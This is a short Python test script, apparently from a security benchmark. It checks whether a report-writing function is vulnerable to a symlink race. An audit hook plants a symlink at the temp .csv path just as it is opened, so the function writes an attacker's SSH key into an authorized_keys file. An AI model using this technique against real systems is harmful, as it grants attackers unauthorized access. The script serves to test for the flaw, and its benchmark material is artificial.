"""A link that stands where the file is about to be created. What wins the race is a hook that runs before each file is opened.

samples: bad 1, good 1
"""

import os
import sys
import tempfile
from pathlib import Path

from attack import attack, load, use

keys = Path("authorized_keys").resolve()
keys.write_text("ssh-ed25519 of-the-app\n")
write_report = load().write_report
use(Path(write_report(["a,1\n", "b,2\n"])).read_text())
place, racing, planted = os.path.realpath(tempfile.gettempdir()), False, []


def mallory(event, arguments):
    """Is told of the name when the system is, and no sooner. She has one try for each report."""
    if racing and event == "open" and str(arguments[0]).endswith(".csv") and not planted:
        planted.append(arguments[0])
        os.symlink(keys, arguments[0])


sys.addaudithook(mallory)
racing = True
report = write_report(["ssh-ed25519 of-mallory\n"])
racing = False
if os.path.dirname(os.path.realpath(planted[0])) not in (place, str(keys.parent)):
    raise SystemExit("the hook saw another file")
use(Path(report).read_text())
attack(keys.read_text() == "ssh-ed25519 of-mallory\n", keys.read_text())
